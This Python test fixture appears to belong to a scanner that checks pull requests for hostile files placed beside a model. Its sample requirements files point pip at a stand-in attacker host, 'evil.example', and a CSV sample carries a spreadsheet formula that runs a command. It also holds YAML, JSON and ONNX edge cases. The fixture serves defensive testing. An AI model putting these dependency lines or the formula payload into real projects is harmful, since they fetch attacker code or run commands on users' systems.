"""What lies beside a sound model: files that run elsewhere, or say another thing to another reader."""

from hostile.pull import MODEL, Work

THREAT = "a pull request with files beside the model that run elsewhere"
FILES = {
    "another index": ("requirements.txt", "--extra-index-url https://evil.example\nnumpy==2.1.0\n"),
    "a package from an address": ("requirements.txt", "numpy @ git+https://evil.example/numpy\n"),
    "an index in a line that goes on": ("requirements.txt", "numpy==2.1.0 \\\n-i https://evil.example\n"),
    "a comment that hides no line": ("dev-requirements.txt", "# pinned \\\n-e git+https://evil.example/x\n"),
    "requirements in another coding": ("requirements.txt", "# coding: utf-7\nnumpy==2.1.0\n"),
}
TEXTS = {
    "a command in a table": ("data/notes.csv", "a,b\n1,=cmd|' /C calc'!A0\n", "a formula in line 2"),
    "a billion laughs beside": ("train.yaml", "a: &a [x]\nb: [*a, *a]\n", "an anchor is not allowed"),
    "JSON of two meanings": ("metrics.json", '{"auc": 0.5, "auc": 0.9}', "is given twice"),
}


def written(name: str, text: str | bytes):
    return lambda work: work.write(f"{MODEL}/{name}", text)


def older_with_nan(work: Work) -> None:
    import numpy as np
    from onnx import TensorProto, helper

    values = [helper.make_tensor_value_info(name, TensorProto.FLOAT, [1]) for name in "xy"]
    nodes = [helper.make_node("LeakyRelu", ["x"], ["y"], alpha=float(np.nan))]
    graph = helper.make_graph(nodes, "g", values[:1], values[1:])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
    work.write(f"{MODEL}/older.onnx", model.SerializeToString())


def pulls():
    for name, (path, text) in FILES.items():
        yield name, written(path, text), "requirements-pinned", f"{path}"
    for name, (path, text, says) in TEXTS.items():
        yield name, written(path, text), "files-allowed", says
    opaque = bytes(range(256)) * 4
    yield "bytes of no format", written("older.onnx", opaque), "onnx-beside", "older.onnx: onnx-graph"
    yield "NaN in an older version", older_with_nan, "onnx-beside", "older.onnx: onnx-weights"
